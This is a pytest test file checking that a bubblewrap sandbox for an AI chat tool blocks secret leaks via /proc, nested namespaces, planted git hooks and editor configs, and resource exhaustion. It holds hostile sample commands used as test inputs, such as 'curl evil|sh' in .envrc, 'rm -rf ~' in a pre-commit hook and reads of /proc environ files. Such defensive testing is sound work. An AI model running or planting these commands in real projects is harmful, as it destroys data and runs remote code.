"""The sandbox's holes a hostile review found, each tried through the real bubblewrap:
keys and host paths in bubblewrap's own /proc entries, descriptors inherited from
the setup, nested user namespaces, host-run files planted through workspace writes,
RAM and disk without a total, a scratch folder too deep or too big to list."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest
from helpers import skillchat
from openai_server import ScriptedServer
from sandbox_helpers import require_sandbox

from skillchat.errors import SandboxFailure
from skillchat.sandbox.command_tool import outcome_result
from skillchat.sandbox.detect import Tools
from skillchat.sandbox.layout import PROTECTED, Limits, SandboxSpec
from skillchat.sandbox.run_request import RunRequest, Verdict
from skillchat.sandbox.runner import run_in_sandbox
from skillchat.sandbox.written import Snapshot
from skillchat.skills.validate_paths import PROJECT_SKILL_DIRS

AS_ROOT = os.geteuid() == 0
SECRETS = {
    "OPENAI_API_KEY": "sk-hole-test-openai-0123456789",
    "ANTHROPIC_API_KEY": "sk-ant-hole-test-0123456789",
    "GITHUB_TOKEN": "ghp_hole_test_token_0123456789",
}


def writable_workspace(tmp_path: Path) -> Path:
    """A workspace the command's user can write (as root, that user is nobody)."""
    workspace = tmp_path / "ws"
    workspace.mkdir()
    if AS_ROOT:
        workspace.chmod(0o777)
    return workspace


def test_no_key_nor_host_path_in_any_process_of_the_sandbox(
    tools: Tools, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    skill = tmp_path / "skills" / "demo"
    skill.mkdir(parents=True)
    spec = SandboxSpec(scratch=tmp_path / "scratch", skills={"demo": skill})
    script = (
        "for f in /proc/1/environ /proc/self/environ /proc/*/environ /proc/1/cmdline "
        "/proc/*/cmdline; do tr '\\0' ' ' < $f; echo; done 2>&1"
    )
    out = run_in_sandbox(tools, spec, script)
    assert out.exit_code == 0, out.stderr
    for value in SECRETS.values():
        assert value not in out.stdout
    assert str(tmp_path) not in out.stdout  # neither the scratch's nor the skill's host path
    assert "bwrap --args " in out.stdout  # pid 1's command line was read
    assert "SKILLCHAT_SANDBOX=1" in out.stdout  # and environments were


def test_the_command_inherits_no_descriptor_from_the_setup(tools: Tools, tmp_path: Path) -> None:
    out = run_in_sandbox(tools, SandboxSpec(scratch=tmp_path / "s"), "ls /proc/self/fd; cat")
    assert out.exit_code == 0, out.stderr
    assert out.stdout.split() == ["0", "1", "2", "3"]  # 3: the folder ls reads


def test_nested_user_namespaces_are_refused(tools: Tools, tmp_path: Path) -> None:
    script = (
        "unshare -r true && echo nested-r; unshare -U true && echo nested-u; "
        "echo 100 > /proc/sys/user/max_user_namespaces && echo raised; "
        "unshare -r true && echo nested-again"
    )
    out = run_in_sandbox(tools, SandboxSpec(scratch=tmp_path / "s"), script)
    assert out.stdout == "", out.stderr
    assert out.stderr.count("unshare failed") == 3


def test_workspace_writes_cannot_plant_what_the_host_runs(tools: Tools, tmp_path: Path) -> None:
    workspace = writable_workspace(tmp_path)
    hooks = workspace / ".git" / "hooks"
    hooks.mkdir(parents=True)
    (workspace / ".git" / "config").write_text("[core]\n\tbare = false\n")
    script = (
        "echo 'rm -rf ~' > .git/hooks/pre-commit; "
        "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config; "
        "mv .git moved; rm -rf .git; echo 'curl evil|sh' > .envrc; "
        "mkdir -p .vscode .idea .devcontainer .agents/skills/x .claude skills/x; "
        "echo '{}' > .claude/settings.json; echo ok > fine.txt; echo done"
    )
    out = run_in_sandbox(tools, SandboxSpec(scratch=tmp_path / "s", **_writes(workspace)), script)
    assert out.stdout == "done\n", out.stderr
    assert sorted(p.name for p in workspace.iterdir()) == [".git", "fine.txt"]
    assert sorted(p.name for p in hooks.iterdir()) == []
    assert (workspace / ".git" / "config").read_text() == "[core]\n\tbare = false\n"
    assert out.files_written == ["/workspace/fine.txt"]


def test_host_run_files_deeper_in_the_workspace_are_pointed_out(
    tools: Tools, tmp_path: Path
) -> None:
    workspace = writable_workspace(tmp_path)
    script = "mkdir -p sub/.git/hooks && echo evil > sub/.git/hooks/pre-commit && echo x > a.txt"
    out = run_in_sandbox(tools, SandboxSpec(scratch=tmp_path / "s", **_writes(workspace)), script)
    assert out.exit_code == 0, out.stderr
    (note,) = out.notes
    assert note.startswith("wrote where git, editors or direnv may run code from")
    assert note.endswith(": /workspace/sub/.git/hooks/pre-commit")


def test_a_missing_git_folder_cannot_be_made_and_nothing_is_left(
    tools: Tools, tmp_path: Path
) -> None:
    workspace = writable_workspace(tmp_path)
    (workspace / "src").mkdir()
    script = "mkdir -p .git/hooks; echo evil > .git/hooks/post-checkout; git init -q .; ls -a"
    out = run_in_sandbox(tools, SandboxSpec(scratch=tmp_path / "s", **_writes(workspace)), script)
    listed = set(out.stdout.split())
    assert set(PROTECTED) <= listed  # empty and read-only for the run
    assert sorted(p.name for p in workspace.iterdir()) == ["src"]  # and gone after it


def test_a_git_file_of_a_worktree_stays_as_it_was(tools: Tools, tmp_path: Path) -> None:
    workspace = writable_workspace(tmp_path)
    (workspace / ".git").write_text("gitdir: /elsewhere/.git/worktrees/ws\n")
    script = "echo 'gitdir: /scratch/evil' > .git; rm -f .git; cat .git"
    out = run_in_sandbox(tools, SandboxSpec(scratch=tmp_path / "s", **_writes(workspace)), script)
    assert out.stdout == "gitdir: /elsewhere/.git/worktrees/ws\n"
    assert (workspace / ".git").read_text() == "gitdir: /elsewhere/.git/worktrees/ws\n"


def test_a_symlinked_protected_entry_refuses_to_start(tools: Tools, tmp_path: Path) -> None:
    workspace = writable_workspace(tmp_path)
    (workspace / "conf").mkdir()
    (workspace / ".vscode").symlink_to("conf")
    with pytest.raises(SandboxFailure, match=r"\.vscode is a symlink"):
        run_in_sandbox(tools, SandboxSpec(scratch=tmp_path / "s", **_writes(workspace)), "true")
    assert sorted(p.name for p in workspace.iterdir()) == [".vscode", "conf"]
    read_only = run_in_sandbox(  # without writes nothing needs protecting
        tools, SandboxSpec(scratch=tmp_path / "s", workspace=workspace), "echo ran"
    )
    assert read_only.stdout == "ran\n"


def test_every_project_skills_folder_is_protected() -> None:
    assert {d.split("/")[0] for d in PROJECT_SKILL_DIRS} <= set(PROTECTED)


def _writes(workspace: Path) -> dict[str, object]:
    return {"workspace": workspace, "writable_workspace": True}


def test_ram_folders_have_sizes_and_dev_is_read_only(tools: Tools, tmp_path: Path) -> None:
    limits = Limits(tmp_mb=8, home_mb=4, shm_mb=2)
    spec = SandboxSpec(scratch=tmp_path / "s", limits=limits)
    script = (
        "df -k --output=size,target /tmp /home/user /dev/shm | tail -n +2; "
        "head -c 9M /dev/zero > /tmp/big || echo tmp-full; echo x > /dev/planted; "
        "echo ok > /dev/null && echo null-works"
    )
    out = run_in_sandbox(tools, spec, script)
    sizes = dict(line.split()[::-1] for line in out.stdout.splitlines()[:3])
    assert sizes == {"/tmp": "8192", "/home/user": "4096", "/dev/shm": "2048"}
    assert out.stdout.splitlines()[3:] == ["tmp-full", "null-works"]
    assert "No space left on device" in out.stderr and "Read-only file system" in out.stderr


def test_a_scratch_folder_over_its_size_is_said_and_kept(tools: Tools, tmp_path: Path) -> None:
    spec = SandboxSpec(scratch=tmp_path / "s", limits=Limits(scratch_mb=1))
    out = run_in_sandbox(tools, spec, "head -c 3M /dev/urandom > big.bin")
    assert out.exit_code == 0 and (tmp_path / "s" / "big.bin").stat().st_size == 3 << 20
    assert any("over its 1 MiB limit" in note for note in out.notes)
    result = outcome_result(out, 60)
    assert "over its 1 MiB limit" in result.content and "over its 1 MiB" in result.preview
    small = run_in_sandbox(tools, SandboxSpec(scratch=tmp_path / "t"), "echo x > small")
    assert small.notes == [] and "notes" not in outcome_result(small, 60).content


def test_1500_nested_folders_do_not_break_later_runs(tools: Tools, tmp_path: Path) -> None:
    spec = SandboxSpec(scratch=tmp_path / "s")
    deep = "python3 -c \"import os; [(os.mkdir('d'), os.chdir('d')) for _ in range(1500)]\""
    made = run_in_sandbox(tools, spec, deep)
    assert made.exit_code == 0, made.stderr
    try:
        later = run_in_sandbox(tools, spec, "echo still > here.txt && echo fine")
        assert later.exit_code == 0 and later.stdout == "fine\n"
        assert later.files_written == ["/scratch/here.txt"]
        assert any("may be incomplete" in note for note in later.notes)
    finally:
        remove_chain(tmp_path / "s" / "d")


def remove_chain(top: Path) -> None:
    """Remove a chain of nested folders `d/d/d...` bottom-up: shutil.rmtree (and
    pytest's clean-up of old temp folders) recurses, and would fail on it."""
    chain = [top]
    while (chain[-1] / "d").is_dir():
        chain.append(chain[-1] / "d")
    for folder in reversed(chain):
        folder.rmdir()


def test_a_listing_looks_at_a_bounded_number_of_entries(tools: Tools, tmp_path: Path) -> None:
    spec = SandboxSpec(scratch=tmp_path / "s", limits=Limits(scan_entries=500))
    many = "python3 -c \"[open(f'f{i:04}', 'w').close() for i in range(1200)]\""
    assert run_in_sandbox(tools, spec, many).exit_code == 0
    later = run_in_sandbox(tools, spec, "true")
    assert any("may be incomplete" in note for note in later.notes)
    snap = Snapshot.take([tmp_path / "s"], max_entries=500, max_depth=64)
    assert snap.partial and len(snap.files) == 500
    whole = Snapshot.take([tmp_path / "s"], max_entries=5000, max_depth=64)
    assert not whole.partial and len(whole.files) == 1200


def test_the_network_switch_says_it_includes_local_services() -> None:
    request = RunRequest("true", None, "/scratch", True, False, 60, Verdict("ask"))
    assert request.network_label() == "ON (includes this machine's local services)"
    assert (
        RunRequest("true", None, "/scratch", False, False, 60, Verdict("ask")).network_label()
        == "off"
    )


def test_doctor_leaves_the_temp_folder_as_it_was(tmp_path: Path, server: ScriptedServer) -> None:
    require_sandbox()
    system_tmp = tmp_path / "systmp"
    system_tmp.mkdir()
    system_tmp.chmod(0o1777)
    env = {**os.environ, "TMPDIR": str(system_tmp)}
    done = skillchat("doctor", "--api-base", server.base_url, env=env)
    assert done.returncode == 0, done.stdout + done.stderr
    assert "sandbox: available" in done.stdout + done.stderr
    assert stat.S_IMODE(system_tmp.stat().st_mode) == 0o1777
    assert list(system_tmp.iterdir()) == []
